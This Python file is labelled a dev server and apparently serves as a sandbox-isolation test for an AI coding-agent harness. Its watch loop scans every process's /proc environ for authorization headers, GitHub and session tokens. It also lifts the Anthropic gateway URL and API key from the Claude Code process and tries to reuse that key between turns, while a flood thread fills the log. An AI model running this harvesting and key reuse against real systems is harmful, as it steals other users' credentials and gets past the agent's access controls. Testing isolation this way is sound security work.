"""The dev server: floods the log, looks for credentials in every environment, and calls the gateway between turns."""

from __future__ import annotations

import os
import re
import threading
import time
from contextlib import suppress
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from attempts import RefusedError, processes, refused, report, run, user_of

FLOOD_BYTES = 20_000_000
_CREDENTIAL = re.compile(r"Authorization: \S+ \S+|\bgh[a-z]_\w+|(?:SESSION|TASK)_TOKEN=\S+")
_GATEWAY = re.compile(
    r"ANTHROPIC_BASE_URL=(?P<url>[^\0]+)|ANTHROPIC_API_KEY=(?P<key>[^\0]+)"
    r"|ANTHROPIC_DEFAULT_HAIKU_MODEL=(?P<model>[^\0]+)"
)


class Page(BaseHTTPRequestHandler):
    """The page."""

    def do_GET(self) -> None:
        """Respond."""
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"<h1>red</h1>")

    def log_message(self, *_: object) -> None:
        """Log nothing."""


def flood() -> None:
    """Write more than anybody wants to keep."""
    written = 0
    while written < FLOOD_BYTES:
        written += os.write(1, b"flood" * 200 + b"\n")


def watch() -> None:
    """Look at every process again and again."""
    others_git: set[int] = set()
    found: set[str] = set()
    gateway: dict[str, str] = {}
    last_seen = 0.0
    while True:
        environments = _environments(others_git, found)
        report("watch_for_credentials", {"tried": len(others_git), "gained": sorted(found), "broken": []})
        seen = {name: value for text in environments for name, value in _gateway_in(text).items()}
        if seen:
            gateway, last_seen = seen, time.monotonic()
        elif gateway and time.monotonic() - last_seen > 3:
            call_between_turns(f"{gateway['url']}/v1/messages", {"x-api-key": gateway["key"]}, gateway["model"])
            gateway = {}
        time.sleep(0.01)


def call_between_turns(url: str, key: dict[str, str], model: str) -> None:
    """Call the gateway with the key of a turn that has ended, unless the next has begun: its key is another."""
    with suppress(RefusedError):
        refused(url, 401, key)
        body = b'{"model": "%s", "max_tokens": 1, "messages": []}' % model.encode()
        run("use_the_gateway_between_turns", [("call", partial(refused, url, 403, key, body))])


def _environments(others_git: set[int], found: set[str]) -> list[str]:
    texts = []
    for pid, arguments in processes().items():
        found.update(_CREDENTIAL.findall(" ".join(arguments)))
        try:
            if Path(arguments[0]).name.startswith("git") and user_of(pid) != os.getuid():
                others_git.add(pid)
            text = Path(f"/proc/{pid}/environ").read_text(errors="replace")
        except (OSError, StopIteration):
            continue
        found.update(_CREDENTIAL.findall(text))
        if "stream-json" in arguments:  # Claude Code, which is there as long as a turn is
            texts.append(text)
    return texts


def _gateway_in(text: str) -> dict[str, str]:
    return {name: value for match in _GATEWAY.finditer(text) for name, value in match.groupdict().items() if value}


if __name__ == "__main__":
    threading.Thread(target=flood, daemon=True).start()
    threading.Thread(target=watch, daemon=True).start()
    ThreadingHTTPServer((os.environ["HOST"], int(os.environ["PORT"])), Page).serve_forever()
